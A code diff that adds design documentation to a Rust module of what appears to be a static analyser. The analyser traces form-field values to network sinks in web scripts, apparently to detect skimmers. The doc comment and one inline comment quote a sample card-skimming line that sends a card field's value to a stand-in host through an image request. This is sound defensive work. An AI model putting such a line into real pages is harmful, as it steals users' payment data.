@@ -5,6 +5,15 @@
 //! [marks](Mark) such as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is
 //! executed and no order of statements is assumed, so a flow says what may happen. Work and memory are linear in the items:
 //! a node has at most 64 marks and passes each on once.
+//!
+//! In and out: `var v = card.value; new Image().src = '//c.example/?' + v` gives one [`Flow`] to [`Sink::Fetched`] with the
+//! marks `Field`, `Address` and `ImageElement`, from the item of `value` to the item of `src`.
+//!
+//! Neighbours: it reads the [stream](crate::stream) and its facts, and the browser names of [`Lexicon`]. [`of_flows`] makes
+//! facts of flows, which signals combine with others; [`AddressUse`]s go into the report and to signatures.
+//!
+//! What must not be done here: rely on the order of statements (attackers choose it, and handlers run later anyway), read the
+//! vocabulary of the model (a new model would change findings), or decide what is malicious (signals do, with more to go by).
 
 mod abroad;
 mod address;
@@ -42,6 +51,8 @@ impl Flow {
 
 /// The flows of a script, in the order of their sinks, and the addresses that it uses. `facts` are the stream's, in its order.
 pub(crate) fn flows(stream: &Stream<'_>, facts: &[Fact], lexicon: &Lexicon) -> (Vec<Flow>, Vec<AddressUse>) {
+    // Three steps, and their order matters: the walk makes all edges, then marks spread, then sinks are read. A sink that was read
+    // while edges are still added would miss `function s() { img.src = v }  v = card.value`, where the value comes later.
     let (graph, sinks, addressed) = walk::walk(stream, facts, lexicon, stream.functions());
     if sinks.is_empty() {
         return (Vec::new(), address::uses(stream, std::iter::empty::<(Sink, u32, &[u32])>()));
